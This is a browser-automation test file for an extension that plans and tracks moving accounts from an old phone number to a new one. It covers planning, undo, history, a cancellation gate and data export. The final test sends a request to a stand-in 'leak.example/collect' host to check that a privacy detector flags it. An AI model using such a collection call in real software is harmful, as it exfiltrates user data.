/** The retirement journey: from "I want to change my number" to "nothing is left on it", in a real browser. */
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { blocksCancelling } from '../../src/plan/make-plan.ts';
import { localeFor } from '../../src/texts/locale.ts';
import type { Tab } from '../support/browsers/driver.ts';
import { until } from '../support/browsers/until.ts';
import { accountPage, otherPage } from './support/account-pages.ts';
import {
  catchFiles,
  chooseFile,
  goToPart,
  listRows,
  listStates,
  openDashboard,
  openPanel,
  readEverything,
  sayInRow,
  untilFile,
  untilStep,
} from './support/journey-screens.ts';
import {
  addNumber,
  ask,
  dayFromNow,
  doUndoable,
  NEW,
  OLD,
  openPopup,
  readRows,
  retireNumber,
  untilReady,
  untilRow,
  untilSeen,
} from './support/screens.ts';
import { accountPageOf, createWorld, type World } from './support/world.ts';

/** Ten services that are changed on their own page, and the label their pages use here. */
const MAPPED: Record<string, string> = {
  apple: '受信任的电话号码',
  xiaomi: '安全手机',
  vivo: '安全手机',
  alipay: '手机号码',
  weibo: '绑定手机',
  jd: '验证手机',
  zhihu: '已验证手机',
  douban: '绑定手机',
  baidu: '绑定手机',
  qq: '密保手机',
};
/** Twenty more: some in an app, at a counter, with a code on the old number or without. */
const OTHERS =
  'wechat icbc ccb cmb china-mobile taobao meituan 12306 douyin toutiao xiaohongshu pinduoduo didi chsi netease-mail bilibili ctrip eleme google microsoft'.split(
    ' ',
  );
const PICKED = [...Object.keys(MAPPED), ...OTHERS];
/** With three days kept free, 15 working days are left for 30 services: two a day. */
const DAYS_LEFT = 17;
const FREEZE_DAYS = 90;
const OUTSIDE = 'https://no-catalogue-site.example/';
const { t } = localeFor('en', 'en');

let world: World;
/** The tab the person browses in. */
let browsing: Tab;
const withoutHash = (address: string) => address.replace(/[?#].*$/, '');

const show = (id: string, mask: string) =>
  world.serve(accountPageOf(id), accountPage(MAPPED[id] ?? '绑定手机', mask));
const retiring = async () =>
  (await ask(world.driver, 'number.list', null)).numbers.find(({ e164 }) => e164 === OLD.e164);
const countdown = (popup: Tab) =>
  popup.evaluate(() => document.querySelector('.summary-countdown')?.textContent ?? '');

beforeAll(async () => {
  world = await createWorld(inject('browser'));
  world.serve(OUTSIDE, otherPage('Elsewhere'));
});
afterAll(() => world?.close());

test('two numbers are added on the first page and one is retired with a day', async () => {
  const welcome = await world.driver.waitForTab('the first page', (address) =>
    address.startsWith(`${world.driver.extensionOrigin}/welcome.html`),
  );
  await untilReady(welcome);
  await ask(world.driver, 'settings.set', { language: 'en' });
  await addNumber(welcome, OLD, '旧号');
  await addNumber(welcome, NEW);
  await retireNumber(welcome, OLD, NEW, dayFromNow(DAYS_LEFT));
  await welcome.close();
});

test('thirty services are picked in the grid', async () => {
  const welcome = await world.driver.openExtensionPage('/welcome.html#services');
  await untilReady(welcome);
  await welcome.waitFor((wanted) => document.querySelectorAll('[data-pick]').length > wanted, PICKED.length);
  // Brands are drawn in the page: every image of one would be a document of its own to the browser.
  await welcome.waitFor(() =>
    [...document.querySelectorAll('.tile .site-icon[data-brand]')].every((tile) =>
      tile.querySelector('path[d]'),
    ),
  );
  expect(
    await welcome.evaluate(() => document.querySelectorAll('.tile .site-icon[data-brand]').length),
  ).toBeGreaterThan(50);
  expect(await welcome.evaluate(() => document.images.length)).toBe(0);
  // What is ticked stays ticked while something else is searched for, by name or by pinyin.
  await welcome.fill('#pick-search', 'meituan');
  await welcome.waitFor(() => document.querySelectorAll('[data-pick]').length < 10);
  await welcome.click('[data-pick="meituan"]');
  await welcome.fill('#pick-search', '');
  for (const id of PICKED.filter((one) => one !== 'meituan')) await welcome.click(`[data-pick="${id}"]`);
  await welcome.click('[data-action="pick-save"]');
  await until('thirty rows', async () => (await listRows(world.driver)).length === PICKED.length);
  expect(Object.keys(await listStates(world.driver)).sort()).toEqual([...PICKED].sort());
  await welcome.close();

  // From here on the real hosts answer: change pages that say nothing, account pages with the old number.
  for (const { siteId, changeUrl } of await listRows(world.driver))
    if (changeUrl) world.serve(changeUrl, otherPage(siteId));
  for (const id of Object.keys(MAPPED)) show(id, OLD.mask);
});

test('the plan spreads them over the days that are left, in the order of the list', async () => {
  const dashboard = await openDashboard(world.driver, 'plan');
  expect(
    await dashboard.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('[data-stretch]')].map((stretch) => [
        stretch.dataset.stretch,
        stretch.getAttribute('aria-current'),
        [...stretch.querySelectorAll('time')].map(({ dateTime }) => dateTime),
      ]),
    ),
  ).toEqual([
    ['before', 'step', [dayFromNow(0), dayFromNow(DAYS_LEFT)]],
    ['frozen', null, [dayFromNow(DAYS_LEFT), dayFromNow(DAYS_LEFT + FREEZE_DAYS)]],
    ['over', null, [dayFromNow(DAYS_LEFT + FREEZE_DAYS + 1)]],
  ]);
  const days = await dashboard.evaluate(() =>
    [...document.querySelectorAll('.plan .group')].map((group) =>
      [...group.querySelectorAll<HTMLElement>('[data-step]')].map(({ dataset }) => dataset.step),
    ),
  );
  expect(days.map(({ length }) => length)).toEqual(Array.from({ length: 15 }, () => 2));
  expect(days.flat()).toEqual((await listRows(world.driver)).map(({ siteId }) => siteId));

  await catchFiles(dashboard);
  await dashboard.click('[data-action="save-calendar"]');
  const calendar = await untilFile(dashboard, '.ics');
  expect(calendar.text.match(/^BEGIN:VEVENT/gm)?.length).toBeGreaterThanOrEqual(15);
  expect(calendar.text).toContain(dayFromNow(DAYS_LEFT).replaceAll('-', ''));
  await dashboard.click('[data-action="save-csv"]');
  expect((await untilFile(dashboard, '.csv')).text.trim().split(/\r?\n/)).toHaveLength(PICKED.length + 1);
  await dashboard.click('[data-action="save-markdown"]');
  expect((await untilFile(dashboard, '.md')).text.match(/^- \[ \]/gm)).toHaveLength(PICKED.length);
  await dashboard.close();
});

/** Works through the panel until `wanted` of the mapped services are proved by their pages. */
async function workThrough(panel: Tab, wanted: number) {
  await panel.activate();
  await panel.click('[data-action="step-begin"]');
  let current = await untilStep(panel);
  await untilLed(panel);
  // Beginning and skipping lead the tab along; a step that comes up by itself leaves it alone until it is opened.
  let led = true;
  for (let proved = 0; proved < wanted; ) {
    await panel.activate();
    if (!(current in MAPPED)) {
      await panel.click('[data-action="step-skip"]');
      current = await untilStep(panel, current);
      await untilLed(panel);
      led = true;
      continue;
    }
    if (!led) await panel.click('[data-action="step-open"]');
    const site = current;
    await until(`the change page of ${site} in the tab`, async () => {
      const address = await browsing.url();
      return withoutHash(address) === withoutHash(accountPageOf(site));
    });
    await browsing.waitFor(() => document.readyState === 'complete');
    await browsing.activate();
    await untilSeen(world.driver, site, OLD.mask);
    show(site, NEW.mask);
    if (proved % 2) await browsing.reload();
    else await changeInPlace();
    await panel.waitFor(
      (id) => document.querySelector<HTMLElement>('[data-finished]')?.dataset.finished === id,
      site,
    );
    current = await untilStep(panel, site);
    led = false;
    proved++;
  }
}

/**
 * The tab comes to the front with the page of the step, a moment after the step is drawn. A panel that is a tab itself,
 * as here, is behind it then and takes no click.
 */
async function untilLed(panel: Tab) {
  if (await panel.evaluate(() => document.querySelector('.step [data-action="step-open"]') !== null))
    await browsing.waitFor(() => document.visibilityState === 'visible');
}

/** Many sites change the number without leaving the page. */
async function changeInPlace() {
  await browsing.evaluate((mask) => {
    const number = document.querySelector('#number');
    number?.addEventListener('click', () => {
      number.textContent = mask;
    });
  }, NEW.mask);
  await browsing.click('#number');
}

test('the panel leads from service to service and moves on when a page shows the new number', async () => {
  browsing = await world.driver.openTab(OUTSIDE);
  const panel = await openPanel(world.driver, browsing);
  await workThrough(panel, 4);
  await panel.close();
  await world.driver.killBackground();
  const again = await openPanel(world.driver, browsing);
  // Ended once more while the panel is open: it goes on as if nothing had happened.
  await world.driver.killBackground();
  await workThrough(again, 2);
  await again.close();
  expect(Object.values(await listStates(world.driver)).filter((state) => state === 'rebound')).toHaveLength(
    6,
  );
});

test('a restart of the browser in the middle loses nothing', async () => {
  const before = await readEverything(world.driver);
  await world.driver.restart();
  expect(await readEverything(world.driver)).toEqual(before);
});

test('after it the panel goes on with the rest of the ten', async () => {
  browsing = await world.driver.openTab(OUTSIDE);
  const panel = await openPanel(world.driver, browsing);
  await workThrough(panel, 4);
  await panel.close();
  const states = await listStates(world.driver);
  for (const id of PICKED) expect([id, states[id]]).toEqual([id, id in MAPPED ? 'rebound' : 'check']);
});

test('verdicts and undo in the popup', async () => {
  const popup = await openPopup(world.driver);
  await sayInRow(popup, 'wechat', 'done');
  await untilRow(popup, 'wechat', 'rebound');
  await popup.click('[data-action="undo"]');
  await untilRow(popup, 'wechat', 'check');
  await sayInRow(popup, 'wechat', 'done');
  await untilRow(popup, 'wechat', 'rebound');
  await sayInRow(popup, 'douyin', 'not-applicable');
  await until(
    'douyin to be not needed',
    async () => (await listStates(world.driver)).douyin === 'not-applicable',
  );
  await popup.close();
});

test('verdicts and undo in the panel', async () => {
  const panel = await openPanel(world.driver, browsing);
  await panel.activate();
  await panel.click('[data-action="step-begin"]');
  const first = await untilStep(panel);
  await panel.activate();
  await panel.click('.step [data-verdict="done"]');
  const second = await untilStep(panel, first);
  await panel.waitFor((id) => !!document.querySelector(`[data-finished="${id}"]`), first);
  await panel.click('[data-action="undo"]');
  await panel.waitFor((id) => !!document.querySelector(`[data-row="${id}"]`), first);
  expect(await panel.evaluate(() => document.querySelector('[data-finished]'))).toBe(null);
  expect((await listStates(world.driver))[first]).toBe('check');
  // What is put off leaves the steps and stands below them.
  await panel.click('.step [data-verdict="later"]');
  await untilStep(panel, second);
  await panel.waitFor((id) => !document.querySelector(`[data-group="steps"] [data-row="${id}"]`), second);
  await panel.waitFor((id) => !!document.querySelector(`[data-group="later"] [data-row="${id}"]`), second);
  const put = (await listRows(world.driver)).find(({ siteId }) => siteId === second);
  expect(put?.laterUntil).toBeGreaterThan(Date.now());
  expect((await listStates(world.driver))[second]).toBe('check');
  await panel.close();
});

test('many at once, and undo of all of them, in the dashboard', async () => {
  const dashboard = await openDashboard(world.driver, 'services');
  const sayBulk = async (ids: string[], verdict: string) => {
    for (const id of ids) await dashboard.click(`[data-row="${id}"] [data-pick]`);
    await dashboard.click(`[data-bulk="${verdict}"]`);
    await dashboard.waitFor(() => !document.querySelector('[data-bulk]'));
  };
  const state = (id: string) => listStates(world.driver).then((states) => states[id]);
  await sayBulk(['ctrip', 'eleme', 'didi'], 'closed');
  await until('three closed accounts', async () => (await state('didi')) === 'closed');
  expect([await state('ctrip'), await state('eleme')]).toEqual(['closed', 'closed']);
  await dashboard.click('[data-action="undo"]');
  await until('all three taken back', async () => (await state('didi')) === 'check');
  expect([await state('ctrip'), await state('eleme')]).toEqual(['check', 'check']);

  // The filter narrows what "all" means.
  await dashboard.fill('#service-search', 'didi');
  await dashboard.waitFor(() => document.querySelectorAll('[data-virtual]').length === 1);
  await dashboard.click('[data-action="pick-all"]');
  await dashboard.click('[data-bulk="closed"]');
  await until('didi closed', async () => (await state('didi')) === 'closed');
  expect(await state('ctrip')).toBe('check');
  await dashboard.close();
});

test('what was said stands in the history and is taken back there', async () => {
  const dashboard = await openDashboard(world.driver, 'history');
  const { entries } = await ask(world.driver, 'history.list', { from: 0, count: 1 });
  const said = entries[0]?.kind === 'said' ? entries[0].verdict : undefined;
  const id = said?.id ?? '';
  expect(said?.siteId).toBe('didi');
  await dashboard.click(`[data-verdict-id="${id}"] button`);
  await dashboard.waitFor(
    (one) => document.querySelector<HTMLElement>(`[data-verdict-id="${one}"]`)?.dataset.undone === 'true',
    id,
  );
  expect((await listStates(world.driver)).didi).toBe('check');
  await dashboard.close();
});

test('the gate lists what may still need a code, and opens only with a reason for each', async () => {
  const dashboard = await openDashboard(world.driver, 'cancel');
  const blocking = (await listRows(world.driver)).filter(blocksCancelling).map(({ siteId }) => siteId);
  expect(blocking.length).toBeGreaterThan(3);
  expect(
    await dashboard.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('[data-blocks]')].map(({ dataset }) => dataset.blocks),
    ),
  ).toEqual(blocking);
  const { id = '' } = (await retiring()) ?? {};
  const refused = await ask(world.driver, 'number.cancel', { id, cancelledOn: dayFromNow(0), overrides: {} });
  expect(refused).toMatchObject({ ok: false, problem: 'blocked' });

  const left = () =>
    dashboard.evaluate(() => document.querySelector<HTMLElement>('[data-blocking]')?.dataset.blocking);
  for (const [place, site] of blocking.entries()) {
    expect(
      await dashboard.evaluate(() => document.querySelector('[data-action="cancelled"]:disabled') !== null),
    ).toBe(true);
    await dashboard.fill(`[data-blocks="${site}"] input`, 'Account not needed any more');
    expect(await left()).toBe(String(blocking.length - place - 1));
  }
  // Looking something up in another part loses none of the reasons.
  await goToPart(dashboard, 'plan');
  await goToPart(dashboard, 'cancel');
  expect(await left()).toBe('0');
  // A day to come is refused with the reason.
  await dashboard.fill('#cancelled-on', dayFromNow(2));
  await dashboard.click('[data-action="cancelled"]');
  await dashboard.waitFor(
    (text) => document.querySelector('.gate-form [role="alert"]')?.textContent === text,
    t.cancelProblem['date-in-future'],
  );
  await dashboard.fill('#cancelled-on', dayFromNow(-3));
  const planned = await retiring();
  await doUndoable(dashboard, () => dashboard.click('[data-action="cancelled"]'));
  await dashboard.waitFor(() => !!document.querySelector('[data-action="reopen"]'));
  // Said too early, it is taken back, and then said again.
  await dashboard.click('[data-action="undo"]');
  await dashboard.waitFor(() => !!document.querySelector('[data-action="cancelled"]'));
  expect(await retiring()).toEqual(planned);
  await dashboard.fill('#cancelled-on', dayFromNow(-3));
  await dashboard.click('[data-action="cancelled"]');
  await dashboard.waitFor(() => !!document.querySelector('[data-action="reopen"]'));
  const number = await retiring();
  expect(number).toMatchObject({ status: 'retired', cancelOn: dayFromNow(-3) });
  expect(Object.keys(number?.overrides ?? {}).sort()).toEqual([...blocking].sort());
  await dashboard.close();
});

test('the reasons stand with the number, in its history and with each service', async () => {
  const dashboard = await openDashboard(world.driver, 'history');
  await dashboard.waitFor(() => !!document.querySelector('[data-changed] [data-reason="ccb"]'));
  const told = await dashboard.evaluate(() =>
    [...document.querySelectorAll('[data-reason="ccb"]')].map((reason) => reason.textContent),
  );
  // With the number as it is, and twice in its history: the first time was taken back.
  expect(told).toHaveLength(3);
  for (const text of told) expect(text).toContain('Account not needed any more');
  await dashboard.click('[data-changed] summary');
  await dashboard.click('[data-changed] [data-reason="ccb"] a');
  const given = await dashboard.waitFor(
    () => document.querySelector('[data-given-reasons] [data-stands="true"]')?.textContent,
  );
  expect(given).toContain('Account not needed any more');
  expect(given).toContain(OLD.typed);
  await dashboard.close();
});

test('the history is narrowed to what is searched, and the plans for the number are in it', async () => {
  const dashboard = await openDashboard(world.driver, 'history');
  const entries = (selector: string) =>
    dashboard.evaluate((one) => document.querySelectorAll(one).length, selector);
  const count = (wanted: number) =>
    dashboard.waitFor(
      (n) =>
        document.querySelector<HTMLElement>('#history-title ~ [data-count]')?.dataset.count === String(n),
      wanted,
    );
  await dashboard.waitFor(() => !!document.querySelector('[data-verdict-id]'));
  const { total } = await ask(world.driver, 'history.list', { from: 0, count: 1 });
  const { entries: found } = await ask(world.driver, 'history.list', { from: 0, count: 99, query: 'zhihu' });
  expect(found.length).toBeGreaterThan(0);
  expect(found.every((entry) => entry.kind === 'said' && entry.verdict.siteId === 'zhihu')).toBe(true);
  await dashboard.fill('#history-search', 'zhihu');
  await count(found.length);
  expect(await entries('[data-verdict-id]')).toBe(found.length);
  await dashboard.fill('#history-search', 'nothing goes by this name');
  await count(0);
  await dashboard.fill('#history-search', '');
  await count(total);
  await dashboard.fill('#history-kind', 'number');
  // Retired, cancelled, taken back, cancelled again.
  await count(4);
  expect(await entries('[data-verdict-id]')).toBe(0);
  expect(await entries('[data-changed] button')).toBe(1);
  await dashboard.close();
});

test('the popup counts the freeze, also after the background was killed', async () => {
  await world.driver.killBackground();
  const popup = await openPopup(world.driver);
  expect(await countdown(popup)).toBe(t.frozen(3, FREEZE_DAYS, true));
  // What is still open stays in the list.
  expect((await readRows(popup)).filter(({ state }) => state === 'check').length).toBeGreaterThan(3);
  await popup.close();
});

test('the carrier gave it back: it is retiring again, without a day', async () => {
  const popup = await openPopup(world.driver);
  const dashboard = await openDashboard(world.driver, 'cancel');
  await dashboard.click('[data-action="reopen"]');
  await dashboard.waitFor(() => !!document.querySelector('[data-action="cancelled"]'));
  expect(await retiring()).toMatchObject({ status: 'retiring' });
  expect((await retiring())?.cancelOn).toBe(undefined);
  await popup.waitFor((text) => document.querySelector('.summary-countdown')?.textContent === text, t.noDate);
  await dashboard.close();
  await popup.close();
});

test('saved to a file, erased, taken back, erased again, restored: the same each time', async () => {
  const dashboard = await openDashboard(world.driver, 'offline');
  await dashboard.click('[data-item] input');
  await dashboard.waitFor(() => !!document.querySelector('[data-item][data-done="true"]'));
  const before = await readEverything(world.driver);
  expect(before.checklists.flatMap((done) => Object.keys(done))).toHaveLength(1);

  await goToPart(dashboard, 'data');
  await catchFiles(dashboard);
  await dashboard.click('[data-action="data-save"]');
  const { name, text } = await untilFile(dashboard, '.json');
  expect(JSON.parse(text).ownNumbers).toHaveLength(2);

  const erase = async () => {
    await dashboard.click('[data-action="data-erase"]');
    await dashboard.click('[data-action="data-erase-sure"]');
    await dashboard.waitFor(() => !!document.querySelector('[data-undoable="erase"]'));
    const popup = await openPopup(world.driver);
    expect(await popup.evaluate(() => document.querySelectorAll('[data-row], [data-summary]').length)).toBe(
      0,
    );
    expect(await popup.evaluate(() => document.querySelector('.empty h2')?.textContent)).toBe(
      t.noNumbersTitle,
    );
    await popup.close();
    expect(await readEverything(world.driver)).toEqual({
      numbers: [],
      rows: [],
      history: { entries: [], total: 0, numberIds: [] },
      checklists: [],
    });
  };
  await erase();
  await world.driver.killBackground();
  await dashboard.click('[data-action="data-undo"]');
  await dashboard.waitFor(() => !document.querySelector('[data-undoable]'));
  expect(await readEverything(world.driver)).toEqual(before);

  await erase();
  // A file cut short is refused with the reason, and nothing is changed.
  await chooseFile(dashboard, '#data-file', name, text.slice(0, -200));
  await dashboard.waitFor(
    (reason) => document.querySelector('#data-error')?.textContent === reason,
    t.fileProblem['cut-short'],
  );
  expect((await readEverything(world.driver)).rows).toEqual([]);
  await chooseFile(dashboard, '#data-file', name, text);
  await dashboard.waitFor(() => !!document.querySelector('[data-preview]'));
  await dashboard.click('[data-action="data-replace"]');
  await dashboard.waitFor(() => !!document.querySelector('[data-undoable="import"]'));
  expect(await readEverything(world.driver)).toEqual(before);
  // Adding the same file once more changes nothing.
  await chooseFile(dashboard, '#data-file', name, text);
  await dashboard.waitFor(() => !!document.querySelector('[data-preview]'));
  await dashboard.click('[data-action="data-merge"]');
  await dashboard.waitFor(() => !document.querySelector('[data-preview]'));
  expect(await readEverything(world.driver)).toEqual(before);
  await dashboard.close();
});

test('when the rest is dealt with, nothing is left on the number and the gate is open', async () => {
  const dashboard = await openDashboard(world.driver, 'services');
  await dashboard.fill('#service-state', 'check');
  await dashboard.waitFor(() =>
    [...document.querySelectorAll<HTMLElement>('[data-row]')].every(
      ({ dataset }) => dataset.state === 'check',
    ),
  );
  await dashboard.click('[data-action="pick-all"]');
  await dashboard.click('[data-bulk="done"]');
  await until('nothing left', async () =>
    Object.values(await listStates(world.driver)).every(
      (state) => state === 'rebound' || state === 'not-applicable',
    ),
  );
  await goToPart(dashboard, 'cancel');
  await dashboard.waitFor(
    () => document.querySelector<HTMLElement>('[data-blocking]')?.dataset.blocking === '0',
  );
  await dashboard.click('[data-action="cancelled"]');
  await dashboard.waitFor(() => !!document.querySelector('[data-action="reopen"]'));
  await dashboard.close();
  const popup = await openPopup(world.driver);
  expect(await popup.evaluate(() => document.querySelector('.ring')?.getAttribute('data-full'))).toBe('true');
  expect(await popup.evaluate(() => document.querySelector('[data-all-done] h2')?.textContent)).toBe(
    t.allDone.title,
  );
  expect(await countdown(popup)).toBe(t.frozen(0, FREEZE_DAYS, true));
  await popup.close();
});

test('the extension itself made no request in the whole journey', async () => {
  expect(world.findStrangeTraffic()).toEqual([]);
  await world.driver.inExtension(async (address) => {
    await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
  }, 'https://leak.example/collect?n=1');
  expect(world.findStrangeTraffic()).toContain('connection to leak.example');
});
